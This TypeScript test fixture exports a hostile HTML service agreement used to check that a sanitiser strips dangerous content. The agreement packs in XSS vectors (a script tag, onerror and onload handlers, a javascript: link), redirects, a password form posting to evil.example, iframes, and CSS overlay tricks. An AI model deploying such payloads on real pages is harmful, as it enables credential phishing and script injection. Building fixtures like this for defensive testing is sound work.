/** An agreement with everything that a page must remove before it shows the text. */
export const HOSTILE_AGREEMENT = `<!doctype html>
<html lang="en"><head><title>Service agreement</title><base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/"><style>body{display:none}</style></head>
<body><h1 id="root" name="location">Service agreement</h1>
<script>document.title = 'owned'</script>
<img src="x" onerror="document.title = 'owned'"><svg onload="document.title = 'owned'"></svg>
<a href="javascript:document.title='owned'">terms</a> <a href="https://safe.example/terms">safe terms</a>
<form action="https://evil.example/"><input name="password" type="password"><button>Continue</button></form>
<iframe src="https://evil.example/"></iframe><object data="https://evil.example/"></object>
<p style="position:fixed;inset:0;background:red">The text of the agreement.</p></body></html>
`;
